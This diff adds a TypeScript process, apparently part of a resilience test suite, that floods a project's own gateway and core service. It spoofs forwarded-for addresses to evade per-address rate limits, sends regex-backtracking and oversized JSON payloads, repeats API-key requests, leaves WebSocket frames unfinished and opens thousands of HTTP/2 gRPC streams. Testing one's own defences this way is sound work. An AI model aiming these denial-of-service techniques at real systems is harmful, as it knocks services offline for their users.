@@ -1,0 +1,98 @@
+// The process of hostile readers: without a key, from many addresses, each attack at a bounded rate until the channel
+// that fork gives is closed. Arguments: the gateway's base address, the core's, the slug of the project they attack.
+import { connect as connectHttp2 } from 'node:http2'
+import { connect as connectTcp } from 'node:net'
+import { Agent, request } from 'undici'
+
+const [base, core, slug] = process.argv.slice(2) as [string, string, string]
+const ended = new AbortController()
+const agent = new Agent({ connections: 8 })
+const project = `${base}/api/v2/projects/${slug}`
+
+let calls = 0
+/** Another of 4,000 addresses at each call: limits by address alone do not end this. */
+function headers(): Record<string, string> {
+  calls += 1
+  return {
+    'x-forwarded-for': `100.64.${Math.floor(calls / 250) % 16}.${calls % 250}`,
+    'content-type': 'application/json',
+  }
+}
+
+const ask = (url: string, body?: string | Buffer, more: Record<string, string> = {}) =>
+  request(url, {
+    method: body === undefined ? 'GET' : 'POST',
+    headers: { ...headers(), ...more },
+    body: body ?? null,
+    dispatcher: agent,
+    signal: ended.signal,
+    headersTimeout: 20_000,
+  }).then((answer) => answer.body.dump())
+
+const slowPattern = encodeURIComponent('.{0,1000}'.repeat(90))
+const unknownFields = JSON.stringify(
+  Object.fromEntries(Array.from({ length: 75_000 }, (_, at) => [`f${at}`, 1])),
+)
+
+/** What each attack does, and how often in a second. */
+const attacks: [perSecond: number, attack: () => Promise<unknown>][] = [
+  [2, () => ask(`${project}/search/?q=needle&limit=50&domain_filter=${slowPattern}`)],
+  [5, () => ask(`${project}/search/?q=${'needle haystack '.repeat(30)}&limit=50`)],
+  [2, () => ask(`${project}/chats/`, JSON.stringify({ message: 'Where is the needle in the haystack?' }))],
+  [3, () => ask(`${project}/chats/`, unknownFields)],
+  [3, () => ask(`${project}/search/click/`, unknownFields)],
+  [20, () => ask(`${base}/api/v2/keys/`, undefined, { authorization: `Api-Key lec_${'a'.repeat(36)}` })],
+]
+
+for (const [perSecond, attack] of attacks) {
+  setInterval(() => attack().catch(() => {}), 1_000 / perSecond)
+}
+
+/** 300 sockets that each send the beginning of a large frame and no end. */
+const { hostname, port } = new URL(base)
+for (let at = 0; at < 300; at++) {
+  const socket = connectTcp(Number(port), hostname)
+  socket.on('error', () => {})
+  socket.write(
+    [
+      `GET /ws/messages/${slug}/ HTTP/1.1`,
+      `Host: ${hostname}:${port}`,
+      'Upgrade: websocket',
+      'Connection: Upgrade',
+      'Sec-WebSocket-Version: 13',
+      'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==',
+      `X-Forwarded-For: 100.65.${Math.floor(at / 100)}.${at % 100}`,
+      '\r\n',
+    ].join('\r\n'),
+  )
+  socket.once('data', () => {
+    const frame = Buffer.alloc(14 + 4 * 1024 * 1024 - 20, 0x20)
+    frame[0] = 0x81
+    frame[1] = 0xff
+    frame.writeBigUInt64BE(BigInt(4 * 1024 * 1024 - 10), 2)
+    socket.write(frame)
+  })
+}
+
+/** Watches of the core's health on one connection, as many as it lets stand. */
+const session = connectHttp2(`http://${core}`)
+session.on('error', () => {})
+session.on('connect', () => {
+  for (let at = 0; at < 5_000; at++) {
+    const stream = session.request({
+      ':method': 'POST',
+      ':path': '/grpc.health.v1.Health/Watch',
+      'content-type': 'application/grpc',
+      te: 'trailers',
+    })
+    stream.on('error', () => {})
+    stream.resume()
+    stream.end(Buffer.alloc(5))
+  }
+})
+
+process.on('disconnect', () => {
+  ended.abort()
+  process.exit()
+})
+process.send?.('started')
